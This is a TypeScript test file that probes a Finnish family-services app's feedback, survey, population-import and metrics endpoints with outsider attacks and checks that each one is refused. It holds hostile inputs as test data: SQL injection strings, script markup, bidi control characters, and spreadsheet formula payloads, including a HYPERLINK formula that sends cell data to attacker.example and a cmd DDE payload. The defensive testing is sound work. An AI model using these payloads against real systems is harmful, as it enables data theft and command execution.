// Issue 13's new surfaces attacked as an outsider would (part H7), on every engine: the family's
// feedback (another contact's link, two answers at once, an open contact, hostile values and
// text, a 1 MB body, a forged form token, what the API gives back), the public surveys (drafts,
// closed and not-yet-open surveys, another region's survey, an invitation used twice at once,
// answers out of range, formula-looking text into the CSVs, small counts), the population import
// (bad counts, another region's municipality, formulas, a BOM before Latin-1 text, 50,000 lines,
// the wrong person) and the metrics (the wrong person, hostile periods and municipalities, no free
// text anywhere, one contact shown as "<5", two refreshes at once). Each attempt ends in a coded
// 4xx (or a harmless, correct answer) and changes nothing it should not.
import { type Kysely, sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { seedDemoUsers } from '../../src/features/identity/demo.ts';
import { refreshMetrics } from '../../src/features/metrics/refresh.ts';
import {
  importPopulation,
  PopulationFileError,
  parsePopulationFile,
  regionIdByCode,
} from '../../src/features/population/index.ts';
import type { DB } from '../../src/platform/db/types.ts';
import { stableUuid } from '../../src/platform/ids.ts';
import { PIRKANMAA_HOST, startTestApp, type TestApp } from '../app.ts';
import { call, KUOPIO, SAME_ORIGIN, signIn, TAMPERE, tokenOf, validContact } from '../contact-fixtures.ts';
import { ENGINES } from '../databases.ts';

const HTML = { accept: 'text/html' };
const RLO = '\u202E';
const LRI = '\u2066';
const NUL = '\u0000';
const SECRET = 'SALAINEN-TEKSTI';
const FORMULAS = ['=HYPERLINK("http://attacker.example/?x="&A1,"Avaa")', "+cmd|' /C calc'!A0", '@SUM(1+1)'];
const DAY = 86_400_000;
const dayIn = (n: number) =>
  new Intl.DateTimeFormat('sv-SE', { timeZone: 'Europe/Helsinki' }).format(new Date(Date.now() + n * DAY));
const THIS_MONTH = dayIn(0).slice(0, 7);
const PIRKANMAA_REGION = stableUuid('region', 'pirkanmaa');

type Fields = Record<string, string | string[]>;

function formBody(csrf: string, fields: Fields): string {
  const body = new URLSearchParams({ _csrf: csrf });
  for (const [k, v] of Object.entries(fields)) for (const x of [v].flat()) body.append(k, x);
  return body.toString();
}

const METRIC_TABLES = [
  'metric_contact_month',
  'metric_contact_facet_month',
  'metric_closed_month',
  'metric_handoff_month',
  'metric_cross_border_method_month',
  'metric_family_year',
] as const;

describe.each(ENGINES)('issue 13 attacked as an outsider, on %s', (engine) => {
  let t: TestApp;
  const s: Record<string, string> = {};
  const db = (): Kysely<DB> => t.database.db;

  beforeAll(async () => {
    t = await startTestApp(engine, { seedDemo: true });
    await seedDemoUsers(db(), {
      organizations: [],
      staff: [
        {
          username: 'pirkanmaa-esihenkilo',
          name: 'Paula Pirkkalainen',
          region: 'pirkanmaa',
          organization: 'pirkanmaan-hyvinvointialue',
          roles: ['manager'],
        },
      ],
      clients: [],
    });
    for (const who of ['neuvoja', 'esihenkilo', 'yllapitaja', 'kunta', 'asiakas', 'pirkanmaa-esihenkilo'])
      s[who] = await signIn(t.app, who);
  }, 120_000);
  afterAll(async () => {
    await t?.close();
  });

  const get = (url: string, who?: string, host?: string) =>
    t.app.inject({
      url,
      headers: { ...HTML, ...(who && s[who] ? { cookie: s[who] } : {}), ...(host ? { host } : {}) },
    });

  /** A page's form as a browser holds it (its CSRF cookie and token); each send posts it. */
  async function formOn(who: string | null, pageUrl: string) {
    const page = await get(pageUrl, who ?? undefined);
    expect(page.statusCode, `${pageUrl}: ${page.body.slice(0, 200)}`).toBeLessThan(500);
    const csrfCookie = String(page.headers['set-cookie'] ?? '')
      .split(/,(?=\s*\w+=)/)
      .map((c) => c.split(';')[0]?.trim())
      .find((c) => c?.startsWith('_csrf='));
    const token = /name="_csrf" value="([^"]+)"/.exec(page.body)?.[1] ?? '';
    return (action: string, fields: Fields, csrf = token) =>
      t.app.inject({
        method: 'POST',
        url: action,
        headers: {
          ...HTML,
          cookie: [who ? s[who] : undefined, csrfCookie].filter(Boolean).join('; '),
          'content-type': 'application/x-www-form-urlencoded',
        },
        payload: formBody(csrf, fields),
      });
  }
  const post = async (who: string | null, pageUrl: string, action: string, fields: Fields) =>
    (await formOn(who, pageUrl))(action, fields);

  const count = async (table: string) =>
    Number(
      (await sql<{ n: string }>`SELECT count(*) AS n FROM ${sql.table(table)}`.execute(db())).rows[0]?.n,
    );

  // ------------------------------------------------------------------ contacts for feedback and metrics

  async function newContact(over: Record<string, unknown> = {}, host?: string) {
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/contacts',
      headers: {
        ...SAME_ORIGIN,
        ...(host ? { origin: `http://${host}`, host } : {}),
        'content-type': 'application/json',
      },
      payload: JSON.stringify(validContact(over)),
    });
    expect(res.statusCode, res.body).toBe(201);
    const { reference, statusUrl } = res.json() as { reference: string; statusUrl: string };
    const { id } = await db()
      .selectFrom('contact')
      .select('id')
      .where('reference', '=', reference)
      .executeTakeFirstOrThrow();
    const token = tokenOf(statusUrl);
    return { id, token, status: `/fi/tilanne/${token}`, action: `/fi/tilanne/${token}/feedback` };
  }

  async function close(id: string) {
    const claimed = await call(t.app, {
      method: 'POST',
      url: `/api/contacts/${id}/claim`,
      cookie: s.neuvoja,
      payload: {},
    });
    expect(claimed.statusCode, claimed.body).toBe(204);
    const closed = await call(t.app, {
      method: 'POST',
      url: `/api/contacts/${id}/close`,
      cookie: s.neuvoja,
      payload: { outcome: { outcome: 'resolved_one_contact' } },
    });
    expect(closed.statusCode, closed.body).toBe(204);
  }

  const feedbackApi = (token: string, payload: unknown, headers: Record<string, string> = {}) =>
    t.app.inject({
      method: 'POST',
      url: `/api/feedback/status/${token}`,
      headers: { ...SAME_ORIGIN, 'content-type': 'application/json', ...headers },
      payload: typeof payload === 'string' ? payload : JSON.stringify(payload),
    });
  const feedbackCounts = async () => ({
    feedback: await count('feedback'),
    receipts: await count('feedback_receipt'),
  });

  // ================================================================== feedback

  describe('feedback', () => {
    it("another contact's link answers for that contact only; a closed contact answered four times at once saves one", async () => {
      const a = await newContact();
      const b = await newContact();
      await close(a.id);
      const before = await feedbackCounts();
      // b is open: its link cannot answer, not even with a's answer
      const open = await feedbackApi(b.token, { gotHelp: 'yes' });
      expect(open.statusCode).toBe(409);
      expect(open.json()).toMatchObject({ error: { code: 'feedback.not_closed' } });
      const openForm = await post(null, b.status, b.action, { gotHelp: 'yes' });
      expect(openForm.statusCode).toBe(409);
      // a made-up link and a's link with a character changed
      const changed = a.token.slice(0, -1) + (a.token.endsWith('A') ? 'B' : 'A');
      for (const token of ['x'.repeat(43), changed, '../../api/contacts', "1' OR '1'='1"]) {
        const res = await feedbackApi(encodeURIComponent(token), { gotHelp: 'yes' });
        expect([400, 404], token).toContain(res.statusCode);
      }
      expect(await feedbackCounts()).toEqual(before);

      // four at once, two from the API and two from the no-script form
      const send = await formOn(null, a.status);
      const all = await Promise.all([
        feedbackApi(a.token, { gotHelp: 'yes' }),
        feedbackApi(a.token, { gotHelp: 'no' }),
        send(a.action, { gotHelp: 'partly' }),
        send(a.action, { gotHelp: 'no' }),
      ]);
      const codes = all.map((r) => r.statusCode);
      expect(codes.filter((c) => c === 201).length + (codes.includes(201) ? 0 : 1)).toBeLessThanOrEqual(1);
      for (const c of codes) expect([201, 303, 409]).toContain(c);
      expect(await feedbackCounts()).toEqual({
        feedback: before.feedback + 1,
        receipts: before.receipts + 1,
      });
    });

    it('hostile values are coded 400s beside their field; a 1 MB body is 413; nothing is saved', async () => {
      const c = await newContact();
      await close(c.id);
      const before = await feedbackCounts();
      for (const payload of [
        { gotHelp: 'yes', ease: '5; DROP TABLE feedback' },
        { gotHelp: 'yes', ease: 6 },
        { gotHelp: 'yes', ease: 0 },
        { gotHelp: 'yes', ease: 2.5 },
        { gotHelp: 'yes', ease: -1 },
        { gotHelp: "yes'; DROP TABLE feedback; --" },
        { gotHelp: 'yes', comment: 'x'.repeat(2001) },
        { gotHelp: 'yes', comment: { $gt: '' } },
        { gotHelp: ['yes', 'no'] },
      ]) {
        const res = await feedbackApi(c.token, payload);
        expect(res.statusCode, JSON.stringify(payload)).toBe(400);
        expect((res.json() as { error: { code: string } }).error.code).toMatch(/^[a-z_]+\.[a-z_]+$/);
      }
      const form = await formOn(null, c.status);
      const bad = await form(c.action, { gotHelp: 'yes', ease: '5; DROP' });
      expect(bad.statusCode).toBe(400);
      expect(bad.body).toContain('ease');
      const huge = await feedbackApi(c.token, { gotHelp: 'yes', comment: 'a'.repeat(1024 * 1024 + 10) });
      expect(huge.statusCode).toBe(413);
      const hugeForm = await form(c.action, { gotHelp: 'yes', comment: 'a'.repeat(1024 * 1024 + 10) });
      expect(hugeForm.statusCode).toBe(413);
      expect(await feedbackCounts()).toEqual(before);
    });

    it('a forged or missing form token is 403 and saves nothing', async () => {
      const c = await newContact();
      await close(c.id);
      const before = await feedbackCounts();
      const form = await formOn(null, c.status);
      expect((await form(c.action, { gotHelp: 'yes' }, 'forged-token-123')).statusCode).toBe(403);
      expect((await form(c.action, { gotHelp: 'yes' }, '')).statusCode).toBe(403);
      // a form post from another site, with no cookie at all
      const foreign = await t.app.inject({
        method: 'POST',
        url: c.action,
        headers: {
          ...HTML,
          origin: 'https://attacker.example',
          'content-type': 'application/x-www-form-urlencoded',
        },
        payload: 'gotHelp=yes',
      });
      expect(foreign.statusCode).toBe(403);
      // the JSON API from another origin
      expect(
        (await feedbackApi(c.token, { gotHelp: 'yes' }, { origin: 'https://attacker.example' })).statusCode,
      ).toBe(403);
      expect(await feedbackCounts()).toEqual(before);
    });

    it('control and bidi characters are taken out of the comment; markup is escaped on the managers’ page', async () => {
      const c = await newContact();
      await close(c.id);
      const comment = `Alku${RLO}kaanteinen${LRI}eristetty${NUL}nolla <script>alert(1)</script> & "loppu" ${SECRET}`;
      const res = await feedbackApi(c.token, { gotHelp: 'partly', ease: 3, comment });
      expect(res.statusCode, res.body).toBe(201);
      // the receipt gives nothing back: no id, no time, no contact
      expect(res.json()).toEqual({ saved: true });
      const stored = await db()
        .selectFrom('feedback')
        .selectAll()
        .where('comment', 'like', 'Alku%')
        .executeTakeFirstOrThrow();
      for (const ch of stored.comment ?? '') {
        const code = ch.codePointAt(0) ?? 0;
        const control = (code < 0x20 && code !== 0x0a) || (code >= 0x7f && code <= 0x9f);
        const bidi = (code >= 0x202a && code <= 0x202e) || (code >= 0x2066 && code <= 0x2069);
        expect(control || bidi, `U+${code.toString(16)}`).toBe(false);
      }
      expect(stored.comment).toContain('<script>');
      expect(JSON.stringify(stored)).not.toContain(c.id);
      expect(JSON.stringify(stored)).not.toContain(c.token);
      const receipts = await db().selectFrom('feedback_receipt').selectAll().execute();
      expect(JSON.stringify(receipts)).not.toContain(c.id);

      const page = await get('/fi/staff/feedback', 'esihenkilo');
      expect(page.statusCode).toBe(200);
      expect(page.body).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
      expect(page.body).not.toContain('<script>alert(1)</script>');
      expect(page.body).not.toContain(RLO);
      expect(page.body).not.toContain(c.id);
      expect(page.body).not.toContain(c.token);

      const api = await call(t.app, { url: '/api/feedback/comments', cookie: s.esihenkilo });
      expect(api.statusCode).toBe(200);
      const body = api.json() as { comments: Record<string, unknown>[] };
      for (const row of body.comments)
        expect(Object.keys(row).sort()).toEqual(['comment', 'gotHelp', 'language', 'month']);
      expect(api.body).not.toContain(c.id);
      expect(api.body).not.toMatch(/\d{4}-\d{2}-\d{2}T/);
      // a counsellor, a client and a municipality contact person read no comments
      for (const who of ['neuvoja', 'asiakas', 'kunta']) {
        expect((await call(t.app, { url: '/api/feedback/comments', cookie: s[who] })).statusCode, who).toBe(
          404,
        );
        expect((await get('/fi/staff/feedback', who)).body, who).not.toContain(SECRET);
      }
      // a hostile period is a coded 400, not SQL
      for (const q of ["from=2026-01' OR 1=1 --", 'from=2026-13', 'to=99999-01', 'page=-1', 'page=1e9']) {
        const r = await call(t.app, { url: `/api/feedback/comments?${q}`, cookie: s.esihenkilo });
        expect(r.statusCode, q).toBe(400);
      }
    });
  });

  // ================================================================== surveys

  describe('surveys', () => {
    const builder = (id: string) => `/fi/staff/surveys/${id}`;
    const version = async (id: string) =>
      String(
        (await db().selectFrom('survey').select('version').where('id', '=', id).executeTakeFirstOrThrow())
          .version,
      );

    async function createSurvey(over: Fields = {}): Promise<string> {
      const res = await post('esihenkilo', '/fi/staff/surveys', '/fi/staff/surveys', {
        audience: 'clients',
        title_fi: 'Hyökkäyskysely',
        opensOn: dayIn(0),
        closesOn: dayIn(30),
        ...over,
      });
      expect(res.statusCode, res.body.slice(0, 500)).toBe(303);
      const id = /\/staff\/surveys\/([0-9a-f-]{36})/.exec(String(res.headers.location))?.[1];
      if (!id) throw new Error('no survey id');
      return id;
    }
    async function addQuestion(id: string, fields: Fields) {
      const res = await post('esihenkilo', builder(id), `${builder(id)}/questions`, {
        version: await version(id),
        ...fields,
      });
      expect(res.statusCode, res.body.slice(0, 300)).toBe(303);
    }
    async function publish(id: string) {
      const res = await post('esihenkilo', builder(id), `${builder(id)}/publish`, {
        version: await version(id),
      });
      expect(res.statusCode, res.body.slice(0, 300)).toBe(303);
      return (
        await db().selectFrom('survey').select('public_token').where('id', '=', id).executeTakeFirstOrThrow()
      ).public_token as string;
    }
    /** A survey with a single choice, a multiple choice (formula-looking options), a scale and a text. */
    async function survey(over: Fields = {}, published = true) {
      const id = await createSurvey(over);
      await addQuestion(id, {
        kind: 'single',
        text_fi: 'Saitko apua?',
        options_fi: 'Kyllä\nEi',
        required: 'true',
      });
      await addQuestion(id, {
        kind: 'multiple',
        text_fi: FORMULAS[0] as string,
        options_fi: FORMULAS.join('\n'),
      });
      await addQuestion(id, { kind: 'scale', text_fi: 'Kuinka helppoa?' });
      await addQuestion(id, { kind: 'text', text_fi: 'Muuta?' });
      const token = published ? await publish(id) : null;
      const q = (
        await db()
          .selectFrom('survey_question')
          .select('id')
          .where('survey_id', '=', id)
          .orderBy('position')
          .execute()
      ).map((x) => `q-${x.id}`);
      return { id, token, q };
    }
    const answer = (token: string, fields: Fields) =>
      post(null, '/fi/sign-in', `/fi/survey/${token}`, fields);
    const responses = async (id: string) =>
      (await db().selectFrom('survey_response').select('id').where('survey_id', '=', id).execute()).length;

    it('a draft, a closed and a not-yet-open survey take no answer', async () => {
      const draft = await survey({}, false);
      const draftToken = (
        await db()
          .selectFrom('survey')
          .select('public_token')
          .where('id', '=', draft.id)
          .executeTakeFirstOrThrow()
      ).public_token;
      if (draftToken) {
        const res = await answer(draftToken, { [draft.q[0] as string]: '0' });
        expect(res.statusCode).toBe(404);
      }
      const later = await survey({ opensOn: dayIn(3), closesOn: dayIn(10) });
      const notYet = await answer(later.token as string, { [later.q[0] as string]: '0' });
      expect(notYet.statusCode).toBe(409);
      const closing = await survey();
      const closed = await post('esihenkilo', builder(closing.id), `${builder(closing.id)}/close`, {
        version: await version(closing.id),
      });
      expect(closed.statusCode, closed.body.slice(0, 300)).toBe(303);
      const late = await answer(closing.token as string, { [closing.q[0] as string]: '0' });
      expect(late.statusCode).toBe(409);
      for (const x of [draft, later, closing]) expect(await responses(x.id)).toBe(0);
    });

    it('an answer out of range is 400 beside its question and saves nothing', async () => {
      const x = await survey();
      const [single, multiple, scale] = x.q as [string, string, string, string];
      for (const fields of [
        { [single]: '2' },
        { [single]: '-1' },
        { [single]: '99' },
        { [single]: '0x1' },
        { [single]: ' 1e0' },
        { [single]: ['0', '1'] },
        { [single]: '0', [multiple]: ['0', '3'] },
        { [single]: '0', [multiple]: '-0' },
        { [single]: '0', [scale]: '6' },
        { [single]: '0', [scale]: '0' },
        { [single]: '0', [scale]: ['3', '4'] },
        { [single]: '0', [scale]: '5.0' },
      ]) {
        const res = await answer(x.token as string, fields);
        expect(res.statusCode, JSON.stringify(fields)).toBe(400);
      }
      expect(await responses(x.id)).toBe(0);
    });

    it("another region's manager finds no survey of this region; nothing changes", async () => {
      const x = await survey();
      const before = await db()
        .selectFrom('survey')
        .selectAll()
        .where('id', '=', x.id)
        .executeTakeFirstOrThrow();
      for (const path of ['', '/preview', '/results', '/results.csv', '/texts.csv']) {
        const res = await get(`${builder(x.id)}${path}`, 'pirkanmaa-esihenkilo');
        expect(res.statusCode, path).toBe(404);
        expect(res.body).not.toContain('Hyökkäyskysely');
      }
      for (const path of ['', '/close', '/send', '/publish', '/questions']) {
        const res = await post('pirkanmaa-esihenkilo', '/fi/staff/surveys', `${builder(x.id)}${path}`, {
          version: await version(x.id),
          title_fi: 'Kaapattu',
          audience: 'clients',
          opensOn: dayIn(0),
          closesOn: dayIn(1),
          addresses: 'hyokkaaja@example.fi',
          kind: 'text',
          text_fi: 'Kaapattu?',
        });
        expect(res.statusCode, path).toBe(404);
      }
      expect(
        await db().selectFrom('survey').selectAll().where('id', '=', x.id).executeTakeFirstOrThrow(),
      ).toEqual(before);
      expect(
        await db()
          .selectFrom('outbox')
          .select('id')
          .where('recipient', '=', 'hyokkaaja@example.fi')
          .execute(),
      ).toEqual([]);
    });

    it("a draft's routes cannot reach a question of another (published) survey", async () => {
      const published = await survey();
      const draft = await createSurvey();
      const frozen = await db()
        .selectFrom('survey_question')
        .selectAll()
        .where('survey_id', '=', published.id)
        .orderBy('position')
        .execute();
      const qid = (frozen[0] as { id: string }).id;
      for (const path of [`/questions/${qid}`, `/questions/${qid}/move`, `/questions/${qid}/remove`]) {
        const res = await post('esihenkilo', builder(draft), `${builder(draft)}${path}`, {
          version: await version(draft),
          kind: 'text',
          text_fi: 'Kaapattu?',
          direction: 'down',
        });
        expect([404, 409], `${path}: ${res.statusCode}`).toContain(res.statusCode);
      }
      expect(
        await db()
          .selectFrom('survey_question')
          .selectAll()
          .where('survey_id', '=', published.id)
          .orderBy('position')
          .execute(),
      ).toEqual(frozen);
    });

    it('an invitation answered three times at once is saved once', async () => {
      const x = await survey({ audience: 'professionals' });
      const sent = await post('esihenkilo', builder(x.id), `${builder(x.id)}/send`, {
        version: await version(x.id),
        addresses: 'kutsuttu@example.fi',
        language: 'fi',
      });
      expect(sent.statusCode, sent.body.slice(0, 300)).toBe(303);
      const mail = await db()
        .selectFrom('outbox')
        .select('params')
        .where('template', '=', 'survey_invitation')
        .where('recipient', '=', 'kutsuttu@example.fi')
        .executeTakeFirstOrThrow();
      const params = (typeof mail.params === 'string' ? JSON.parse(mail.params) : mail.params) as {
        url: string;
      };
      const token = new URL(params.url).pathname.split('/').at(-1) as string;
      const send = await formOn(null, '/fi/sign-in');
      const all = await Promise.all(
        [0, 1, 0].map((choice) => send(`/fi/survey/${token}`, { [x.q[0] as string]: String(choice) })),
      );
      expect(all.map((r) => r.statusCode).sort()).toEqual([303, 409, 409]);
      expect(await responses(x.id)).toBe(1);
    });

    it('formula-looking texts are neutralised in both CSVs; three responses show "<5" and no free text', async () => {
      const x = await survey();
      const [single, multiple, scale, text] = x.q as [string, string, string, string];
      for (const [i, formula] of FORMULAS.entries()) {
        const res = await answer(x.token as string, {
          [single]: '0',
          [multiple]: ['0', '1', '2'],
          [scale]: '4',
          [text]: `${formula} ${SECRET}-${i}`,
        });
        expect(res.statusCode, res.body.slice(0, 300)).toBe(303);
      }
      const results = await get(`${builder(x.id)}/results`, 'esihenkilo');
      expect(results.statusCode).toBe(200);
      expect(results.body).not.toContain(SECRET);
      expect(results.body).toContain('&lt;5');
      const csv = await get(`${builder(x.id)}/results.csv`, 'esihenkilo');
      expect(csv.statusCode).toBe(200);
      expect(csv.body).not.toContain(SECRET);
      expect(csv.body).toContain('<5');
      expect(csv.body).not.toMatch(/(^|,|\n)"?\s*[=+@-]/m);
      for (const f of FORMULAS) expect(csv.body).toContain(`'${f.slice(0, 5)}`);
      const texts = await get(`${builder(x.id)}/texts.csv`, 'esihenkilo');
      expect(texts.statusCode).toBe(200);
      expect(texts.body).not.toContain(SECRET);

      // two more (five in all): the texts are listed, each formula neutralised
      for (let i = 3; i < 5; i++)
        expect(
          (await answer(x.token as string, { [single]: '1', [text]: `${FORMULAS[i % 3]} ${SECRET}-${i}` }))
            .statusCode,
        ).toBe(303);
      const texts5 = await get(`${builder(x.id)}/texts.csv`, 'esihenkilo');
      expect(texts5.body).toContain(SECRET);
      expect(texts5.body).not.toMatch(/(^|,|\n)"?\s*[=+@-]/m);
    });
  });

  // ================================================================== population

  describe('population', () => {
    const rows = async () =>
      await db()
        .selectFrom('population')
        .select(['municipality_code', 'year', 'children', 'source', 'imported_by'])
        .orderBy('year')
        .orderBy('municipality_code')
        .execute();
    const codes = async (file: string | Uint8Array, region: string) => {
      const error = await importPopulation(db(), file, { regionId: region, importedBy: 'H7' }).catch(
        (e: unknown) => e,
      );
      expect(error).toBeInstanceOf(PopulationFileError);
      return (error as PopulationFileError).problems.map((p) => p.code);
    };

    it('refuses bad counts, another region’s municipality and formulas with their codes; nothing saved', async () => {
      const region = (await regionIdByCode(db(), 'pohjois-savo')) as string;
      const before = await rows();
      const head = 'kunta;vuosi;lapset_0_17\n297;2026;100\n';
      expect(await codes(`${head}749;2026;-5\n`, region)).toContain('population.negative_count');
      expect(await codes(`${head}749;2026;1e9\n`, region)).toContain('population.not_a_number');
      expect(await codes(`${head}749;2026;0x10\n`, region)).toContain('population.not_a_number');
      expect(await codes(`${head}749;2026;99999999999\n`, region)).toContain('population.not_a_number');
      expect(await codes(`${head}${TAMPERE};2026;10\n`, region)).toContain('population.other_region');
      expect(await codes(`${head}749;2026;=1+2\n`, region)).toContain('population.not_a_number');
      expect((await codes(`${head}=HYPERLINK("http://x");2026;1\n`, region)).length).toBeGreaterThan(0);
      expect(await codes(`${head}"@SUM(A1)";2026;1\n`, region)).toContain('population.unknown_municipality');
      expect(await codes(`${head}297' OR 1=1 --;2026;1\n`, region)).toContain(
        'population.unknown_municipality',
      );
      expect(await rows()).toEqual(before);
      // a thousands space is read as Statistics Finland writes it
      const spaced = await importPopulation(db(), 'kunta;vuosi;lapset_0_17\n297;2026;12 345\n', {
        regionId: region,
        importedBy: 'H7',
        dryRun: true,
      });
      expect(spaced.rows[0]?.children).toBe(12_345);
      expect(await rows()).toEqual(before);
    });

    it('reads a UTF-8 byte order mark before Latin-1 text as the Latin-1 it is', () => {
      const municipalities = [
        { code: '749', regionId: 'r', name: { fi: 'Siilinjärvi', sv: 'Siilinjärvi' } },
      ] as unknown as Parameters<typeof parsePopulationFile>[1]['municipalities'];
      const file = Buffer.concat([
        Buffer.from([0xef, 0xbb, 0xbf]),
        Buffer.from('kunta;vuosi;lapset_0_17\nSiilinjärvi;2026;3843\n', 'latin1'),
      ]);
      const parsed = parsePopulationFile(file, { municipalities, regionId: 'r' });
      expect(parsed.rows).toMatchObject([{ code: '749', year: 2026, children: 3843 }]);
    });

    it('50,000 lines come back with a bounded list of problems, quickly, and nothing saved', async () => {
      const region = (await regionIdByCode(db(), 'pohjois-savo')) as string;
      const before = await rows();
      const lines = ['kunta;vuosi;lapset_0_17'];
      for (let i = 0; i < 50_000; i++) lines.push(`${KUOPIO};2026;${i}`);
      const started = Date.now();
      const problems = await codes(lines.join('\n'), region);
      expect(Date.now() - started).toBeLessThan(20_000);
      expect(problems).toContain('population.duplicate_row');
      expect(problems.length).toBeLessThanOrEqual(201);
      expect(await rows()).toEqual(before);
    }, 60_000);

    it('a manager, a contact person and a counsellor posting to the preview and the import get 404; nothing saved', async () => {
      const before = await rows();
      for (const who of ['esihenkilo', 'kunta', 'neuvoja', 'asiakas', 'pirkanmaa-esihenkilo']) {
        for (const path of ['/fi/staff/population', '/fi/staff/population/preview']) {
          const res = await post(who, '/fi/staff', path, {
            csv: 'kunta;vuosi;lapset_0_17\n297;2025;1',
            rows: 'kunta;vuosi;lapset_0_17\n297;2025;1',
            source: 'statfin_11re',
          });
          expect(res.statusCode, `${who} ${path}`).toBe(404);
        }
      }
      expect(await rows()).toEqual(before);
    });
  });

  // ================================================================== metrics

  describe('metrics', () => {
    const snapshot = async (regionId: string) => {
      const out: Record<string, unknown[]> = {};
      for (const table of METRIC_TABLES) {
        const { rows } = await sql<Record<string, unknown>>`
          SELECT * FROM ${sql.table(table)} WHERE region_id = ${regionId}`.execute(db());
        out[table] = rows.map((r) => JSON.stringify(r)).sort();
      }
      return out;
    };

    it('the municipality contact person cannot refresh; a counsellor or a client gets no CSV', async () => {
      const refreshed = async () =>
        (await sql<{ r: string }>`SELECT max(refreshed_at)::text AS r FROM metric_refresh`.execute(db()))
          .rows[0]?.r ?? null;
      // (the region's first page view refreshes it once, for anyone who may read the figures)
      const form = await formOn('kunta', '/fi/staff/metrics');
      const before = await refreshed();
      expect(before).not.toBeNull();
      const res = await form('/fi/staff/metrics/refresh', {});
      expect([403, 404]).toContain(res.statusCode);
      expect(await refreshed()).toBe(before);
      for (const who of ['neuvoja', 'asiakas', undefined]) {
        const csv = await get('/fi/staff/metrics/export.csv', who);
        expect(csv.headers['content-type'] ?? '', String(who)).not.toContain('text/csv');
        if (who) expect(csv.statusCode, who).toBe(404);
        const api = await call(t.app, { url: '/api/metrics', cookie: who ? s[who] : undefined });
        // signed out: to the sign-in, as every staff address does
        expect(api.statusCode, String(who)).toBe(who ? 404 : 302);
        expect(api.body).not.toContain('contacts');
      }
    });

    it('a hostile period or municipality is a coded 400, on the page, the API and the CSV', async () => {
      const year = Number(THIS_MONTH.slice(0, 4));
      const nextMonth = THIS_MONTH.endsWith('-12')
        ? `${year + 1}-01`
        : `${year}-${String(Number(THIS_MONTH.slice(5)) + 1).padStart(2, '0')}`;
      for (const q of [
        `from=${year - 1}-11&to=${year}-02`,
        `from=${nextMonth}&to=${nextMonth}`,
        `from=${year}-13`,
        'from=2026-00',
        `from=0001-01&to=${THIS_MONTH}`,
        'from=1900-01&to=9999-12',
        `municipality=${TAMPERE}`,
        `municipality=${encodeURIComponent("297' OR 1=1 --")}`,
        'municipality=297&municipality=749',
        `from=${year}-01&from=${year}-02`,
        `from=${encodeURIComponent('2026-01\u0000')}`,
      ]) {
        const page = await get(`/fi/staff/metrics?${q}`, 'esihenkilo');
        expect(page.statusCode, q).toBe(400);
        const api = await call(t.app, { url: `/api/metrics?${q}`, cookie: s.esihenkilo });
        expect(api.statusCode, q).toBe(400);
        expect((api.json() as { error: { code: string } }).error.code, q).toMatch(/^(metrics|request)\./);
        const csv = await get(`/fi/staff/metrics/export.csv?${q}`, 'esihenkilo');
        expect(csv.statusCode, q).toBe(400);
      }
    });

    it('never carries a free text; one contact in a region shows "<5", not 1', async () => {
      // a closed contact's feedback comment with the secret, folded in
      const c = await newContact();
      await close(c.id);
      expect((await feedbackApi(c.token, { gotHelp: 'yes', comment: `${SECRET} <b>x</b>` })).statusCode).toBe(
        201,
      );
      const region = (await regionIdByCode(db(), 'pohjois-savo')) as string;
      await refreshMetrics(db(), region, new Date());
      for (const who of ['esihenkilo', 'kunta', 'yllapitaja']) {
        const page = await get('/fi/staff/metrics', who);
        expect(page.statusCode, who).toBe(200);
        expect(page.body).not.toContain(SECRET);
        expect(page.body).not.toContain(c.id);
        const api = await call(t.app, { url: '/api/metrics', cookie: s[who] });
        expect(api.statusCode, who).toBe(200);
        expect(api.body).not.toContain(SECRET);
        expect(api.body).not.toContain(c.id);
      }
      const csv = await get('/fi/staff/metrics/export.csv', 'esihenkilo');
      expect(csv.statusCode).toBe(200);
      expect(csv.body).not.toContain(SECRET);
      // the contact person opens no contact from the figures
      expect(await get('/fi/staff/metrics', 'kunta').then((r) => r.body)).not.toMatch(
        /\/staff\/contacts\/[0-9a-f-]{36}/,
      );
      expect((await call(t.app, { url: `/api/contacts/${c.id}`, cookie: s.kunta })).statusCode).toBe(404);

      // Pirkanmaa: exactly one contact
      await newContact({ municipality: TAMPERE }, PIRKANMAA_HOST);
      const inRegion = Number(
        (
          await db()
            .selectFrom('contact')
            .select((eb) => eb.fn.countAll<string>().as('n'))
            .where('region_id', '=', PIRKANMAA_REGION)
            .executeTakeFirstOrThrow()
        ).n,
      );
      expect(inRegion).toBe(1);
      await refreshMetrics(db(), PIRKANMAA_REGION, new Date());
      const api = await call(t.app, { url: '/api/metrics', cookie: s['pirkanmaa-esihenkilo'] });
      expect(api.statusCode, api.body.slice(0, 300)).toBe(200);
      const report = api.json() as {
        contacts: {
          total: { shown: boolean; value?: number };
          byMunicipality: { rows: { count: { shown: boolean; value?: number } }[] };
        };
      };
      expect(report.contacts.total).toMatchObject({ shown: false });
      for (const row of report.contacts.byMunicipality.rows)
        if (row.count.shown) expect(row.count.value === 0 || (row.count.value as number) >= 5).toBe(true);
      // no visible 1 of 1–4 anywhere among the shown values of the report
      const smalls: number[] = [];
      JSON.parse(api.body, (_key, value) => {
        if (value && typeof value === 'object' && value.shown === true && typeof value.value === 'number')
          if (value.value > 0 && value.value < 5 && Number.isInteger(value.value)) smalls.push(value.value);
        return value;
      });
      expect(smalls).toEqual([]);
      const pirkanmaaCsv = await get('/fi/staff/metrics/export.csv', 'pirkanmaa-esihenkilo');
      expect(pirkanmaaCsv.statusCode).toBe(200);
      expect(pirkanmaaCsv.body).toContain('<5');
      const pirkanmaaPage = await get('/fi/staff/metrics', 'pirkanmaa-esihenkilo');
      expect(pirkanmaaPage.body).not.toMatch(/n = [1-4]\b/);
    });

    it('two refreshes of a region at once: one runs (or they run one after the other), the summaries are not doubled', async () => {
      const region = (await regionIdByCode(db(), 'pohjois-savo')) as string;
      for (let i = 0; i < 3; i++) {
        const c = await newContact();
        if (i < 2) await close(c.id);
      }
      const now = new Date();
      const both = await Promise.all([
        refreshMetrics(db(), region, now),
        refreshMetrics(db(), region, now),
        refreshMetrics(db(), region, now),
      ]);
      // (on PostgreSQL the advisory lock makes the others skip; PGlite has one connection, so
      // they run one after the other)
      expect(both.some((r) => r.ran)).toBe(true);
      for (const r of both) if (!r.ran) expect(r.months).toBe(0);
      const parallel = await snapshot(region);
      const once = await refreshMetrics(db(), region, now);
      expect(once.ran).toBe(true);
      expect(await snapshot(region)).toEqual(parallel);
